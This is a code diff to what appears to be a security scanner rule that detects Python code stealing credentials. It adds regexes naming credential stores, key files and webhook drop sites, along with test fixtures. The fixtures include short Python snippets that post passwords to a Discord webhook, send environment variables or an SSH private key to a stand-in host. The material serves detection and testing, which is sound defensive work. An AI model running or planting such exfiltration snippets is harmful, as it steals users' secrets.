@@ -4,7 +4,7 @@ import type { Hit } from '../../rule.ts';
 
 const NETWORK = /^(?:requests|urllib\d?|httpx|aiohttp|http|socket|smtplib|ftplib|discord\w*|telebot|telegram|websocket\w*|pycurl|dhooks)\b/;
 /** Where browsers, chat programs and wallets keep what lets somebody in. */
-const STORES = /Login Data|Local Storage[\\/]+leveldb|logins\.json|key4\.db|cookies\.sqlite|[\\/]Network[\\/]+Cookies|CryptUnprotectData|wallet\.dat|Exodus[\\/]+exodus\.wallet|Electrum[\\/]+wallets|nkbihfbeogaeaoehlefnkodbefgpgknn|Local Extension Settings/i;
+const STORES = /Login Data|Local Storage["', \\/]+leveldb|logins\.json|key4\.db|cookies\.sqlite|[\\/]Network[\\/]+Cookies|CryptUnprotectData|wallet\.dat|Exodus["', \\/]+exodus\.wallet|Electrum["', \\/]+wallets|nkbihfbeogaeaoehlefnkodbefgpgknn|Local Extension Settings/i;
 /** Keys of the person who runs the program. */
 const KEYS = /\.ssh[\\/'", ]+(?:(?:id_(?:rsa|dsa|ed25519|ecdsa)\b|\*))|\.aws[\\/'", ]+credentials|\.kube[\\/'", ]+config|\.git-credentials|\.pypirc|\.docker[\\/'", ]+config\.json|\/etc\/shadow|gcloud[\\/'", ]+(?:credentials\.db|application_default_credentials)/;
 const READS = /^(?:open|io\.open|shutil\.copy\w*|sqlite3\.connect|os\.(?:listdir|scandir|walk)|glob\.\w+|zipfile\.\w+|tarfile\.\w+)$|\.(?:read_text|read_bytes)$|\.write$/;
@@ -16,6 +16,8 @@ const WALLET = /bc1\[|\[13\]\[|\(bc1|0x\[a-fA-F0-9\]\{40\}|0x\[0-9a-fA-F\]\{40\}
 
 /** Where data is left that nobody asks for. */
 const DROPS = /discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|webhook\.site|pipedream\.net|\.ngrok\b|\.oast\.|burpcollaborator|interact\.sh|requestbin|hookbin|pastebin\.com\/api/;
+/** What lets somebody in. */
+const PASSWORDS = /\b(?:password|passwd|pwd|cookies?|mnemonic|seed_phrase|private_key|tokens?|credit_?card|cvv)\b(?!\s*=)(?!["'])/i;
 /** What tells about the person or the machine. */
 const SPIES = /^(?:socket\.gethostname|getpass\.getuser|os\.getlogin|platform\.(?:node|platform|uname)|uuid\.getnode|psutil\.\w+)$/;
 const SHOTS = /^(?:pyautogui\.screenshot|PIL\.ImageGrab\.grab|ImageGrab\.grab|mss\.mss|cv2\.VideoCapture|pyscreenshot\.grab)$/;
@@ -34,7 +36,10 @@ function* takings(path: string, fact: PythonFact): Generator<Hit> {
   if (keys !== undefined && carries) yield { place: place(path, keys), evidence: keys.text, confidence: 'medium', message: 'It reads the keys of whoever runs it, and sends data away.' };
   for (const call of fact.calls) {
     if (!SENDS.test(call.name)) continue;
-    if (ENVIRONMENT.test(call.text)) yield { place: place(path, call), evidence: call.text, message: 'It sends all variables of the environment away, keys included.' };
+    const values = [...call.args, ...call.named.map(([, value]) => value)];
+    if (DROPS.test(`${call.text} ${values.map((value) => String(value.constant ?? '')).join(' ')}`) && PASSWORDS.test(call.text)) yield { place: place(path, call), evidence: call.text, message: 'It sends passwords or tokens to a place for strangers.' };
+    else if (values.some((value) => value.taint?.kind === 'environment')) yield { place: place(path, call), evidence: call.text, confidence: 'medium', message: 'It sends variables of the environment away, keys included.' };
+    else if (ENVIRONMENT.test(call.text)) yield { place: place(path, call), evidence: call.text, message: 'It sends all variables of the environment away, keys included.' };
     else if (new Set(call.text.match(WHO) ?? []).size >= 2) yield { place: place(path, call), evidence: call.text, severity: 'high', confidence: 'medium', message: 'It reports who runs it on which machine.' };
   }
 }
@@ -87,6 +92,8 @@ export const pythonStealsData = defineRule({
   },
   examples: {
     bad: [
+      { kind: 'repository', files: { 'a.py': "import requests\ndef login(user, password):\n    requests.post('https://discord.com/api/webhooks/1/x', json={'content': user + ':' + password})\n" } },
+      { kind: 'repository', files: { 'a.py': "import os, requests\nfor k, v in os.environ.items():\n    requests.post('https://x.dev', data={k: v})\n" } },
       { kind: 'repository', files: { 'a/__init__.py': "import requests, os\nrequests.post('https://x.dev/e', json=dict(os.environ))\n" } },
       { kind: 'repository', files: { 'a/__init__.py': "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurllib.request.urlopen('https://x.dev/?k=' + key)\n" } },
       { kind: 'repository', files: { 'a.py': "import os, requests\np = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\nrequests.post(hook, json={'content': find(p)})\n" } },
@@ -94,6 +101,7 @@ export const pythonStealsData = defineRule({
       { kind: 'repository', files: { 'a.py': "import os, socket\ndata = os.popen('whoami').read()\nsocket.gethostbyname(data + '.x.dev.net')\n" } },
     ],
     good: [
+      { kind: 'repository', files: { 'a.py': "import requests\ndef login(user, password):\n    requests.post('https://api.x.dev/login', json={'u': user, 'p': password})\n" } },
       { kind: 'repository', files: { 'a.py': "import os, requests\nrequests.post('https://x.dev/e', json={'token': os.environ['TOKEN']})\n" } },
       { kind: 'repository', files: { 'a.py': "import os, paramiko\nc.connect(host, key_filename=os.path.expanduser('~/.ssh/id_rsa'))\n" } },
       { kind: 'repository', files: { 'a.py': "import pyperclip\npyperclip.copy(text)\nt = pyperclip.paste()\n" } },
